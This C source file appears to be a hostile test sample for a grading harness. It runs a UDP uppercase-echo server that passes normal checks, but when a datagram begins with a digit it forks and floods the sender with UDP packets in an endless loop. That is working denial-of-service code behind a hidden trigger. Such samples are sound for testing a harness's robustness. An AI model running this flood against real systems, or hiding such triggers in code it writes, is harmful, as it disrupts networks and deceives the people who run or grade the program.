/* tries: passes one test, floods in the next to have it called void
 * points: 60
 * alone: yes
 * ends: by this program alone */
#define _GNU_SOURCE
#include "hostile.h"

static void flood(struct sockaddr_in to)
{
    enum { COUNT = 512 };
    static struct mmsghdr messages[COUNT];
    struct iovec one = {.iov_base = "?", .iov_len = 1};
    for (int i = 0; i < COUNT; i++)
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to,
                                              .msg_namelen = sizeof(to),
                                              .msg_iov = &one,
                                              .msg_iovlen = 1};
    (void)fork();
    (void)fork();
    for (;;) { /* each socket has room for some of its own */
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        (void)sendmmsg(fd, messages, COUNT, MSG_DONTWAIT);
        (void)close(fd);
    }
}

int main(void)
{
    int fd = open_port();
    for (;;) {
        char text[1500];
        struct sockaddr_in from;
        socklen_t length = sizeof(from);
        ssize_t n = recvfrom(fd, text, sizeof(text), 0,
                             (struct sockaddr *)&from, &length);
        if (n > 0 && isdigit((unsigned char)text[0]))
            flood(from);
        for (ssize_t i = 0; i < n; i++)
            text[i] = (char)toupper((unsigned char)text[i]);
        if (n >= 0)
            (void)sendto(fd, text, (size_t)n, 0, (struct sockaddr *)&from,
                         length);
    }
}
